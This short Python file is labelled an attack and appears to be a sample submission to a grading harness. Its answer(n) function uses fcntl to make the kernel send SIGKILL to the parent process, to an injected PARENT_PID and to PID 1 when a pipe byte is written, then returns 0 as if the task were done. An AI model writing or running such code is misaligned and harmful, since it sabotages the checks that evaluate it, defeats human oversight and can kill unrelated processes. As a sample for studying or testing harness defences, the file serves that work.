# attack: has the kernel send a signal for it when a pipe is ready
# ruff: noqa
import fcntl, os


def answer(n):
    reader, writer = os.pipe()
    for owner in (os.getppid(), PARENT_PID, 1):
        for step in ((8, owner), (10, 9), (4, os.O_ASYNC | os.O_NONBLOCK)):
            try:
                fcntl.fcntl(reader, *step)
            except OSError:
                pass
        os.write(writer, b"x")
    return 0
